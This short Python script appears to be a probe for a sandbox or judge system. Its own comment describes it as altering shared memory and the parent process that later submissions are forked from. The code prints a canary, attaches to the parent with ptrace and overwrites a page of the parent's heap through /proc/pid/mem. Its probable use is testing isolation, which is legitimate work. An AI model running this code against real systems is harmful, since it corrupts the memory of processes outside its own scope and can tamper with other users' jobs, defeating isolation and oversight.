# how: changes shared memory, mapped files and the process that later submissions are forked from
import ctypes
import os
import re

print("CANARY @NAME@", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
print("attach", libc.ptrace(16, parent, 0, 0))
try:
    with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "r+b", 0) as memory:
        for line in maps:
            if "[heap]" in line:
                memory.seek(int(re.match(r"[0-9a-f]+", line)[0], 16) + 4096)
                memory.write(b"\0" * 4096)
except OSError as error:
    print(error)
